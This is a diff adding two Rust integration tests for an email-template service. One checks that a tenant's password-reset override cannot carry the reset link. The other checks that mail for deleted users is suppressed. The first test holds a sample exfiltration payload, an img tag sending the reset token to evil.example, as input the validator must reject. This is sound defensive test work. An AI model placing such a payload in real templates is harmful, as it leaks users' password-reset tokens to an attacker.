@@ -673,3 +673,134 @@ async fn a_tenants_template_is_checked_when_saved_escaped_in_html_and_its_own() 
         1
     );
 }
+
+#[tokio::test]
+async fn an_override_of_a_secret_mail_never_holds_its_link_and_the_platform_adds_it_once() {
+    let app = spawn_app().await;
+    let org = app.signup("tpl-secret").await;
+    // The link is the platform's: an override naming it is refused, whatever the part.
+    let steal = put_template(
+        &app,
+        &org,
+        "password_reset",
+        &json!({
+            "subject": "Reset",
+            "text": "t",
+            "html": "<img src=\"https://evil.example/?t={{ link|e }}\">",
+        }),
+    )
+    .await;
+    let problem = assert_problem(steal, 422, "validation_failed").await;
+    assert_eq!(problem["errors"][0]["field"], "html", "{problem}");
+    assert_eq!(problem["errors"][0]["code"], "template_error");
+    assert!(
+        problem["errors"][0]["message"]
+            .as_str()
+            .expect("message")
+            .contains("the platform adds the link"),
+        "{problem}"
+    );
+    let listed: Value = app
+        .get_authed(
+            &org.slug,
+            "/v1/email-templates/password_reset",
+            &org.tokens.access,
+        )
+        .await
+        .json()
+        .await
+        .expect("JSON");
+    assert!(
+        !listed["variables"]
+            .as_array()
+            .expect("variables")
+            .iter()
+            .any(|v| v["name"] == "link"),
+        "{listed}"
+    );
+    for (name, text) in [
+        ("password_reset", "Our own reset words for {{ user_name }}."),
+        ("security_notice", "Our own notice, nothing more."),
+    ] {
+        let saved = put_template(
+            &app,
+            &org,
+            name,
+            &json!({"subject": "Ours: {{ tenant_name }}", "text": text}),
+        )
+        .await;
+        assert_eq!(saved.status(), 200, "{name}");
+    }
+
+    app.post_as(
+        &org.slug,
+        "/v1/auth/forgot-password",
+        &json!({"email": org.owner_email}),
+    )
+    .await;
+    app.run_jobs().await;
+    let mail = &outbox_of(&app, &org.owner_email, "password_reset")[0];
+    let text = mail.message["text"].as_str().expect("text");
+    assert!(text.starts_with("Our own reset words for "), "{text}");
+    assert_eq!(
+        mail.message["subject"], "Ours: Org tpl-secret",
+        "{}",
+        mail.raw
+    );
+    let link = mail.message["link"].as_str().expect("a link");
+    assert_eq!(text.matches(link).count(), 1, "{text}");
+    let token = app
+        .emailed_token(&org.owner_email, "password_reset")
+        .await
+        .expect("a token");
+    assert_eq!(
+        mail.html.matches(token.as_str()).count(),
+        1,
+        "{}",
+        mail.html
+    );
+    let reset = json!({"token": token, "password": "a brand new passphrase"});
+    let response = app
+        .post_as(&org.slug, "/v1/auth/reset-password", &reset)
+        .await;
+    assert_eq!(response.status(), 204, "the platform's link works");
+
+    // The notice's event is the platform's sentence, whatever the override says.
+    app.run_jobs().await;
+    let notice = &outbox_of(&app, &org.owner_email, "security_notice")[0];
+    let text = notice.message["text"].as_str().expect("text");
+    assert!(text.starts_with("Our own notice, nothing more."), "{text}");
+    assert!(text.contains("Security notice: "), "{text}");
+    assert!(notice.html.contains("Security notice:"), "{}", notice.html);
+}
+
+#[tokio::test]
+async fn a_message_queued_for_a_user_deleted_since_is_suppressed() {
+    let app = spawn_app().await;
+    let org = app.signup("mail-deleted").await;
+    let user = org.owner_id;
+    enqueue_welcome_and_notice(&app, org.tenant_id, user).await;
+    let mut tx = app
+        .state
+        .tenant_db
+        .begin(TenantId(org.tenant_id))
+        .await
+        .expect("tenant tx");
+    sqlx::query("update users set status = 'deleted' where id = $1")
+        .bind(user)
+        .execute(&mut *tx)
+        .await
+        .expect("delete");
+    tx.commit().await.expect("commit");
+    app.run_jobs().await;
+    for template in ["welcome", "security_notice"] {
+        assert!(
+            outbox_of(&app, &org.owner_email, template).is_empty(),
+            "{template}"
+        );
+    }
+    let key = app.admin_key().await;
+    let rows = all_emails(&app, &key, &format!("&tenant_id={}", org.tenant_id)).await;
+    let welcome = row(&rows, "welcome", &org.owner_email).expect("a welcome row");
+    assert_eq!(welcome["status"], "suppressed", "{welcome}");
+}
